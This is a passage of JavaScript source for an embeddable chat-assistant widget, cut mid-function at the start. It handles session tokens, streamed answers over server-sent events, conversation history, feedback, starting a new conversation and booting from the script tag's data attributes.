    if (body !== undefined) headers['Content-Type'] = raw ? body.type || 'application/octet-stream' : 'application/json';
    if (auth) headers.Authorization = `Bearer ${state.token}`;
    try {
      return await fetch(base + path, {
        method,
        headers,
        body: body === undefined || raw ? body : JSON.stringify(body),
        mode: 'cors',
        credentials: 'omit',
        cache: 'no-store',
        signal,
      });
    } catch (err) {
      if (isAbort(err)) throw err;
      throw networkError();
    }
  }

  function mint(previousToken) {
    if (mintPromise) return mintPromise;
    mintPromise = (async () => {
      const user = opts.userId && opts.userHash ? { id: opts.userId, hash: opts.userHash } : null;
      let res = await request('/api/session', { method: 'POST', body: { bot, previous_token: previousToken || null, user } });
      if (res.status === 401 && previousToken) {
        // the old token is unusable (e.g. the server's key changed): start a fresh session
        res = await request('/api/session', { method: 'POST', body: { bot, previous_token: null, user } });
      }
      if (!res.ok) throw await httpError(res);
      let data;
      try {
        data = await res.json();
      } catch (e) {
        data = null;
      }
      if (!data || typeof data.token !== 'string' || !data.token) {
        const err = new Error('bad session response');
        err.userMessage = MESSAGES.badResponse;
        throw err;
      }
      state.token = data.token;
      const ttl = Number(data.expires_in);
      state.expiresAt = Number.isFinite(ttl) && ttl > 0 ? Date.now() + ttl * 1000 : 0;
      if (data.bot && typeof data.bot === 'object') state.config = data.bot;
      const maxChars = Number(data.max_message_chars);
      if (Number.isInteger(maxChars) && maxChars > 0) {
        state.maxChars = maxChars;
        input.maxLength = maxChars;
      }
      if (!state.conversationId && isValidConversationId(data.conversation_id)) state.conversationId = data.conversation_id;
      if (!state.conversationId) state.conversationId = makeConversationId();
      persist();
      applyConfig();
    })();
    mintPromise.then(
      () => (mintPromise = null),
      () => (mintPromise = null),
    );
    return mintPromise;
  }

  function ensureSession() {
    const fresh = state.token && (!state.expiresAt || Date.now() < state.expiresAt - 15000);
    if (fresh) return Promise.resolve();
    return mint(state.token || state.previousToken);
  }

  // An authorised call; an "expired" 401 re-mints with previous_token and retries once.
  async function authed(path, init) {
    await ensureSession();
    const used = state.token;
    const res = await request(path, Object.assign({}, init, { auth: true }));
    if (res.status !== 401) return res;
    const err = await httpError(res);
    if (!err.detail || !/expired/i.test(err.detail)) throw err;
    if (state.token === used) await mint(used);
    return request(path, Object.assign({}, init, { auth: true }));
  }

  async function sendFeedback(answerId, rating, comment) {
    const body = { answer_id: answerId, rating };
    if (comment) body.comment = comment;
    const res = await authed('/api/feedback', { method: 'POST', body });
    if (!res.ok) throw await httpError(res);
  }

  async function fetchHistory() {
    const res = await authed(`/api/history?conversation_id=${encodeURIComponent(state.conversationId)}`);
    if (res.status === 404) return [];
    if (!res.ok) throw await httpError(res);
    const data = await res.json().catch(() => null);
    return data && Array.isArray(data.messages) ? data.messages : [];
  }

  function renderHistory(messages) {
    for (const item of messages) {
      if (!item || typeof item !== 'object') continue;
      if (typeof item.question === 'string' && item.question) appendUser(item.question);
      if (typeof item.answer === 'string') {
        const answer = createAnswer();
        append(answer.el, true);
        answer.finish({
          text: item.answer,
          citations: item.citations,
          cited: item.cited,
          fallback: item.fallback,
          answer_id: item.answer_id,
        });
      }
    }
    scrollToBottom();
  }

  // Session + welcome + history. Resolves true when the session is ready; on failure shows the
  // error and resolves false (the next open / send tries again).
  function start() {
    if (started) return Promise.resolve(true);
    if (startPromise) return startPromise;
    startPromise = (async () => {
      const loading = append(typingIndicator('sb-loading', 'Connecting'), true);
      try {
        await ensureSession();
      } catch (err) {
        loading.remove();
        if (!welcomeEl) renderWelcome();
        showError(err);
        return false;
      }
      let messages = [];
      let historyError = null;
      const conversation = state.conversationId;
      if (hadConversation) {
        try {
          messages = await fetchHistory();
        } catch (err) {
          historyError = err;
        }
      }
      loading.remove();
      if (!welcomeEl) renderWelcome();
      // (skip if "New conversation" was pressed meanwhile)
      if (state.conversationId === conversation) renderHistory(messages);
      if (historyError && historyError.kind === 'network') showError(historyError);
      started = true;
      return true;
    })();
    startPromise.then((ok) => {
      startPromise = null;
      return ok;
    });
    return startPromise;
  }

  // ---- sending ----
  function setBusy(busy) {
    state.busy = busy;
    sendBtn.disabled = busy;
    log.setAttribute('aria-busy', busy ? 'true' : 'false');
  }

  async function send() {
    if (state.busy) return;
    const text = input.value.trim();
    if (!text) return;
    if (text.length > state.maxChars) {
      showError(`Messages can be at most ${state.maxChars} characters long.`);
      return;
    }
    setBusy(true);
    input.value = '';
    autosize();
    const controller = typeof AbortController === 'function' ? new AbortController() : null;
    state.abort = controller;
    const signal = controller ? controller.signal : undefined;
    try {
      if (!(await start())) {
        if (!input.value) input.value = text;
        return;
      }
      if (signal && signal.aborted) return;
      appendUser(text);
      const typing = append(typingIndicator('sb-typing', 'Assistant is typing'), true);
      let res;
      try {
        res = await authed('/api/chat', {
          method: 'POST',
          body: { message: text, conversation_id: state.conversationId },
          accept: 'text/event-stream',
          signal,
        });
        if (!res.ok) throw await httpError(res);
      } catch (err) {
        typing.remove();
        if (!isAbort(err) && !(signal && signal.aborted)) showError(err);
        return;
      }
      await readAnswer(res, typing, signal);
    } finally {
      if (state.abort === controller) {
        state.abort = null;
        setBusy(false);
      }
    }
  }

  async function readAnswer(res, typing, signal) {
    const answer = createAnswer();
    let text = '';
    let finished = false;

    const parser = createSSEParser((event) => {
      if (finished || (signal && signal.aborted)) return;
      let data;
      try {
        data = JSON.parse(event.data);
      } catch (e) {
        return;
      }
      if (!data || typeof data !== 'object') return;
      if (event.event === 'sources') {
        answer.setSources(data.sources);
      } else if (event.event === 'delta') {
        if (typeof data.text !== 'string' || !data.text) return;
        if (!answer.el.isConnected) {
          typing.replaceWith(answer.el);
        }
        text += data.text;
        answer.setText(text);
      } else if (event.event === 'done') {
        finished = true;
        if (!answer.el.isConnected) typing.replaceWith(answer.el);
        answer.finish(Object.assign({}, data, { text: typeof data.text === 'string' ? data.text : text }));
      } else if (event.event === 'error') {
        finished = true;
        typing.remove();
        if (text) answer.abandon();
        else answer.el.remove();
        showError(str(data.message) || MESSAGES.streamError);
      }
    });

    try {
      if (res.body && typeof res.body.getReader === 'function') {
        const reader = res.body.getReader();
        const decoder = new TextDecoder('utf-8');
        for (;;) {
          const { value, done } = await reader.read();
          if (done) break;
          parser.push(decoder.decode(value, { stream: true }));
          if (finished) {
            reader.cancel().catch(() => {});
            break;
          }
        }
        parser.push(decoder.decode());
      } else {
        parser.push(await res.text());
      }
      parser.end();
    } catch (err) {
      if (isAbort(err) || (signal && signal.aborted)) return;
    }
    if (finished || (signal && signal.aborted)) return;
    typing.remove();
    if (text) answer.abandon();
    else answer.el.remove();
    showError(MESSAGES.interrupted);
  }

  // ---- new conversation ----
  async function newConversation() {
    if (newBtn.disabled) return;
    newBtn.disabled = true;
    if (state.abort) {
      state.abort.abort();
      state.abort = null;
      setBusy(false);
    }
    const old = state.conversationId;
    let deleteError = null;
    if (old && state.token) {
      try {
        const res = await authed(`/api/conversations/${encodeURIComponent(old)}`, { method: 'DELETE' });
        if (!res.ok && res.status !== 404) throw await httpError(res);
      } catch (err) {
        deleteError = err;
      }
    }
    state.conversationId = makeConversationId();
    persist();
    log.replaceChildren();
    welcomeEl = null;
    renderWelcome();
    if (deleteError) {
      const reason = deleteError.kind === 'network' ? MESSAGES.unreachable : errorText(deleteError);
      showError(`The previous conversation couldn't be deleted from the server. ${reason}`);
    }
    newBtn.disabled = false;
    input.focus();
  }

  // ---- open / close ----
  function openPanel() {
    if (state.open) return;
    state.open = true;
    panel.hidden = false;
    root.setAttribute('data-open', 'true');
    if (launcher) launcher.setAttribute('aria-expanded', 'true');
    start();
    scrollToBottom();
    input.focus();
  }

  function closePanel() {
    if (!floating || !state.open) return;
    state.open = false;
    mic.cancel();
    player.stop();
    panel.hidden = true;
    root.setAttribute('data-open', 'false');
    launcher.setAttribute('aria-expanded', 'false');
    launcher.focus();
  }

  function autosize() {
    input.style.height = 'auto';
    input.style.height = `${Math.min(input.scrollHeight + 2, 140)}px`;
  }

  // ---- events ----
  if (launcher) launcher.addEventListener('click', () => (state.open ? closePanel() : openPanel()));
  if (closeBtn) closeBtn.addEventListener('click', closePanel);
  newBtn.addEventListener('click', newConversation);
  composer.addEventListener('submit', (event) => {
    event.preventDefault();
    send();
  });
  input.addEventListener('keydown', (event) => {
    if (event.key !== 'Enter' || event.shiftKey || event.isComposing || event.keyCode === 229) return;
    event.preventDefault();
    send();
  });
  input.addEventListener('input', autosize);
  root.addEventListener('keydown', (event) => {
    if (event.key === 'Escape' && floating && state.open) {
      event.stopPropagation();
      closePanel();
    }
  });

  // ---- attach ----
  if (floating) {
    document.body.appendChild(host);
  } else {
    // "fill that element": if the host page gave it no real height, use a sensible default
    const sized = targetEl.clientHeight >= 200;
    targetEl.appendChild(host);
    if (!sized) host.style.height = '520px';
  }
  applyConfig(); // after attaching: the contrast colour needs computed styles

  if (!floating || hadConversation) start();
}

// ---------------------------------------------------------------------------------------------
// Boot
// ---------------------------------------------------------------------------------------------

function findOwnScript() {
  const current = document.currentScript;
  if (current && current.src) return current;
  const scripts = document.querySelectorAll('script[src]');
  for (let i = scripts.length - 1; i >= 0; i--) {
    if (/\/widget(\.min)?\.js(?:[?#]|$)/.test(scripts[i].src)) return scripts[i];
  }
  return null;
}

function boot() {
  if (!window.SwitchboardWidget) window.SwitchboardWidget = { version: VERSION };
  const script = OWN_SCRIPT;
  if (!script) {
    console.warn('[switchboard] could not find the widget <script> tag');
    return;
  }
  let base;
  try {
    base = new URL(script.src, document.baseURI).origin;
  } catch (e) {
    console.warn('[switchboard] bad script src');
    return;
  }
  const ds = script.dataset;
  const opts = {
    base,
    bot: str(ds.bot) || 'default',
    mode: ds.mode === 'inline' ? 'inline' : 'floating',
    target: str(ds.target),
    title: str(ds.title),
    color: str(ds.color),
    avatar: str(ds.avatar),
    position: str(ds.position),
    welcome: typeof ds.welcome === 'string' ? ds.welcome : null,
    userId: str(ds.userId),
    userHash: str(ds.userHash),
  };
  const go = () => {
    try {
      mount(opts);
    } catch (err) {
      console.error('[switchboard] widget failed to start', err);
    }
  };
  if (document.readyState === 'loading') document.addEventListener('DOMContentLoaded', go, { once: true });
  else go();
}

if (typeof window !== 'undefined' && typeof document !== 'undefined') boot();
